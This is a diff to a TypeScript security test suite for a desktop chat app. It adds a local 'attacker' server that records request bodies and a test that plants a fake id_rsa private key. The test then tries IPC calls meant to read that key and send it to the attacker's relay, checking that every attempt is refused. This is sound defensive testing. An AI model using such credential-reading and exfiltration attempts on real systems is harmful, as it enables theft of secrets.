@@ -6,6 +6,8 @@
  * the person did not choose, launch a program, or move a key.
  */
 import { lstat, mkdir, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { basename, join, relative } from 'node:path';
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
@@ -19,6 +21,7 @@ const KEY = 'sk-hostile-page-canary-4c1f9e07b2';
 const SAMPLES = join(import.meta.dirname, '../../resources/knowledge-samples');
 
 let relay: DemoRelay;
+const servers: Server[] = [];
 const folders: string[] = [];
 const apps: ChatApp[] = [];
 const figures: Figure[] = [];
@@ -72,12 +75,60 @@ beforeAll(async () => {
 afterAll(async () => {
   for (const app of apps.splice(0)) await app.services.close().catch(() => undefined);
   await relay?.close();
+  for (const server of servers) server.closeAllConnections?.();
+  await Promise.all(servers.map((s) => new Promise((resolve) => s.close(resolve))));
   cleanUp(folders);
   recordFigures(12, 'Hostile page, files and backups', figures, [
     'Every input was sent as the page would send it (through the real router, with the real services on a temp user data folder), or given to main as a file the person chose (an import, a restore).',
     'A figure holds when the input did no harm: refused, or done without reaching a file the person did not choose, launching anything, or sending a key where it was not given.',
   ]);
 });
+
+/**
+ * A server of the attacker's, answering as a relay would (models, embeddings, a reply), and
+ * keeping every request body it is sent.
+ */
+async function startRecorder(): Promise<{ url: string; bodies: string[] }> {
+  const bodies: string[] = [];
+  const server = createServer((request, response) => {
+    const chunks: Buffer[] = [];
+    request.on('data', (chunk: Buffer) => chunks.push(chunk));
+    request.on('end', () => {
+      const body = Buffer.concat(chunks).toString('utf8');
+      bodies.push(body);
+      response.setHeader('content-type', 'application/json');
+      const url = request.url ?? '';
+      if (url.endsWith('/embeddings')) {
+        const input = (JSON.parse(body) as { input: string[] }).input;
+        response.end(
+          JSON.stringify({
+            object: 'list',
+            model: 'demo-embedding',
+            data: input.map((_, index) => ({ object: 'embedding', index, embedding: [1, 0, 0] })),
+          }),
+        );
+      } else if (url.endsWith('/chat/completions')) {
+        response.end(
+          JSON.stringify({
+            id: 'c',
+            object: 'chat.completion',
+            model: 'demo-chat',
+            choices: [
+              { index: 0, finish_reason: 'stop', message: { role: 'assistant', content: 'ok' } },
+            ],
+          }),
+        );
+      } else {
+        response.end(
+          JSON.stringify({ object: 'list', data: [{ id: 'demo-chat', object: 'model' }] }),
+        );
+      }
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  servers.push(server);
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, bodies };
+}
 
 /** A connected app whose messages go to the demo relay. */
 async function connected(name: string, options: ChatAppOptions = {}): Promise<ChatApp> {
@@ -302,6 +353,131 @@ describe('4. a hostile chat export', () => {
           }
         }
       }
+    }
+  });
+});
+
+describe('1 and 2. the page names a file on disk', () => {
+  it('can neither read a file it names nor send it to a relay it picks', async () => {
+    const scratch = await folder('paths');
+    const secret = join(scratch, 'id_rsa');
+    const CANARY = 'PRIVATE-KEY-CANARY-5be81f';
+    await writeFile(secret, `-----BEGIN OPENSSH PRIVATE KEY-----\n${CANARY}\n`, { mode: 0o600 });
+    const evil = await startRecorder();
+    const app = await open(await folder('paths-app'));
+    // A keyless connection to the attacker's server, made active: every request goes there.
+    await app.api.createConnection({ name: 'Theirs', baseUrl: evil.url });
+    const base = await app.api.createKnowledgeBase({ name: 'Mine', model: 'demo-embedding' });
+    const forged = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
+    const calls: Array<[string, unknown]> = [
+      ['knowledge:add-paths', { id: base.id, paths: [secret] }],
+      ['knowledge:add-paths', { id: base.id, paths: [scratch] }],
+      ['chat:attach-paths', { paths: [secret] }],
+      ['knowledge:add-dropped', { id: base.id, grants: [secret] }],
+      ['knowledge:add-dropped', { id: base.id, grants: [forged] }],
+      ['chat:attach-dropped', { grants: [secret] }],
+      ['chat:attach-dropped', { grants: [forged] }],
+      // The preload's own channel, which hands main the paths of a drop: not the page's to call.
+      ['files:grant-dropped', { purpose: 'attach', paths: [secret] }],
+      ['files:grant-dropped', { purpose: 'knowledge', paths: [scratch] }],
+      ['knowledge:remove-source', { id: base.id, path: secret }],
+      ['app:show-saved-file', { path: secret }],
+    ];
+    const attached: string[] = [];
+    for (const [channel, payload] of calls) {
+      const result = await app.router.dispatch(channel, payload, app.sender);
+      const value = result.ok ? (result.value as { attached?: Array<{ id: string }> }) : undefined;
+      attached.push(...(value?.attached ?? []).map((a) => a.id));
+      const took = result.ok && (value?.attached?.length ?? 1) > 0;
+      outcome(
+        `${channel} ${JSON.stringify(payload).replaceAll(scratch, '~')}`,
+        result.ok ? 'accepted' : `refused (${result.error.kind})`,
+        !took,
+        'refused',
+      );
+    }
+    // Whatever was taken, the page then asks for it: searched, and sent with a message.
+    await app
+      .until(() => app.events.find((e) => e.channel === 'knowledge:index-ended'), 3_000)
+      .catch(() => undefined);
+    const hits = await app.api
+      .searchKnowledgeBase({ id: base.id, question: 'private key' })
+      .then((r) => r.hits.map((h) => h.text).join('\n'))
+      .catch(() => '');
+    const { id } = await app.api.createConversation({ model: 'demo-chat' });
+    await app.api
+      .sendMessage({
+        conversationId: id,
+        text: 'hello',
+        attachmentIds: attached.slice(0, 5),
+        options: { stream: false },
+      })
+      .then((sent) => app.finished(sent.replyId))
+      .catch(() => undefined);
+    const sent = evil.bodies.filter((body) => body.includes(CANARY)).length;
+    outcome(
+      'the file’s text in a search answer',
+      hits.includes(CANARY) ? 'yes' : 'no',
+      !hits.includes(CANARY),
+      'no',
+    );
+    outcome('requests to the page’s relay holding the file', String(sent), sent === 0, '0');
+    expect(attached).toEqual([]);
+    expect(hits).not.toContain(CANARY);
+    expect(sent).toBe(0);
+  });
+
+  it('takes a drop only by the grant main gave for it: once, for its use, from its window', async () => {
+    const scratch = await folder('grants');
+    const notes = join(scratch, 'notes.txt');
+    await writeFile(notes, 'harbour notes\n');
+    const app = await open(await folder('grants-app'));
+    const other = { ...app.sender, webContentsId: 2 };
+    const attach = (grants: string[], from = app.sender) =>
+      app.router.dispatch('chat:attach-dropped', { grants }, from);
+    const tries: Array<[string, () => Promise<{ ok: boolean }>, boolean]> = [
+      [
+        'a grant given for a knowledge base, used to attach',
+        async () => attach(await app.grant([notes], 'knowledge')),
+        false,
+      ],
+      [
+        'a grant given to the main window, used by another window',
+        async () => attach(await app.grant([notes]), other),
+        false,
+      ],
+      [
+        'a grant given twice in one call',
+        async () => {
+          const [g] = await app.grant([notes]);
+          return attach([g!, g!]);
+        },
+        false,
+      ],
+      [
+        'a grant given for the drop, used once (the person’s own drop)',
+        async () => attach(await app.grant([notes])),
+        true,
+      ],
+      [
+        'the same grant used again',
+        async () => {
+          const grants = await app.grant([notes]);
+          await attach(grants);
+          return attach(grants);
+        },
+        false,
+      ],
+    ];
+    for (const [name, run, expected] of tries) {
+      const { ok } = await run();
+      outcome(
+        name,
+        ok ? 'accepted' : 'refused',
+        ok === expected,
+        expected ? 'accepted' : 'refused',
+      );
+      expect(ok, name).toBe(expected);
     }
   });
 });
